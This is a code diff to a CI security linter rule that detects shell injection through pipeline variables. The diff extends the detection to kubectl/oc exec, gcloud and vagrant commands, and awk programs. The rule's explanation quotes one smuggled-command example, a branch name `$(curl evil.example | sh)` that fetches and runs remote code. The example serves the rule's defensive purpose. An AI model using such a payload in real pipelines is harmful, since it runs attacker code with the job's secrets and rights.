@@ -24,7 +24,7 @@ export const variableInjection = defineRule({
   why: 'A branch name or title such as `$(curl evil.example | sh)` then runs in the job, with its variables and its rights.',
   fix: 'Pass the value as an argument: `bash -c \'… "$1"\' _ "$CI_COMMIT_REF_NAME"`.',
   blindSpots:
-    'Only shells, `eval`, interpreters that are given a program as an argument, here-documents that a shell runs and what ssh runs elsewhere are checked, not databases or scripts of the repository. Inputs are followed only where `expand_vars` puts them into a script.',
+    'Only shells, `eval`, interpreters that are given a program as an argument, here-documents that a shell runs and what ssh, `kubectl exec` and the like run elsewhere are checked, not databases or scripts of the repository. Inputs are followed only where `expand_vars` puts them into a script.',
   keywords: ['before_script', 'script', 'after_script', 'hooks:pre_get_sources_script', 'run', 'include:inputs'],
   level: 'warning',
   source: 'https://docs.gitlab.com/ci/pipeline_security/',
@@ -106,14 +106,45 @@ const INTERPRETERS: readonly (readonly [program: RegExp, option: RegExp])[] = [
 ];
 
 /** The words that a command reads as commands of their own. */
-function runTexts({ name, words }: JobCommand): readonly CommandWord[] {
+function runTexts({ name, words }: Pick<JobCommand, 'name' | 'words'>): readonly CommandWord[] {
   if (/^(?:eval|iex|invoke-expression)$/i.test(name)) return words.slice(1);
-  // What the other machine's shell runs.
-  if (name === 'ssh') return toldToSsh(words)?.command ?? [];
+  const elsewhere = runElsewhere(name, words);
+  if (elsewhere) return elsewhere;
+  if (/^[gmn]?awk$/.test(name)) return awkProgram(words.slice(1));
   const names = INTERPRETERS.find(([program]) => program.test(name))?.[1];
   const option = names ? words.findIndex((word, index) => index > 0 && names.test(word.text)) : -1;
   const script = option === -1 ? undefined : words[option + 1];
   return script ? [script] : [];
+}
+
+/** What the shell of another machine, or a program in another container, is given; null: the command runs here. */
+function runElsewhere(name: string, words: readonly CommandWord[]): readonly CommandWord[] | null {
+  switch (name) {
+    case 'ssh':
+      return toldToSsh(words)?.command ?? [];
+    case 'kubectl':
+    case 'oc': {
+      const dashes = words.findIndex(({ text }) => text === '--');
+      const inside = dashes === -1 ? [] : words.slice(dashes + 1);
+      return runTexts({ name: inside[0]?.text.replace(/.*\//, '') ?? '', words: inside });
+    }
+    case 'gcloud':
+    case 'vagrant':
+      return words.filter(
+        ({ text }, index) => /^--command=/.test(text) || /^(?:-c|--command)$/.test(words[index - 1]?.text ?? ''),
+      );
+    default:
+      return null;
+  }
+}
+
+/** The first word that is neither an option nor the value of one, unless the program is in a file. */
+function awkProgram(words: readonly CommandWord[]): readonly CommandWord[] {
+  if (words.some(({ text }) => /^(?:-f|--file)/.test(text))) return [];
+  const at = words.findIndex(
+    ({ text }, index) => !text.startsWith('-') && !/^-[vF]$/.test(words[index - 1]?.text ?? ''),
+  );
+  return words.slice(at, at + 1);
 }
 
 /** `echo … | sh`: what is said becomes the commands. */
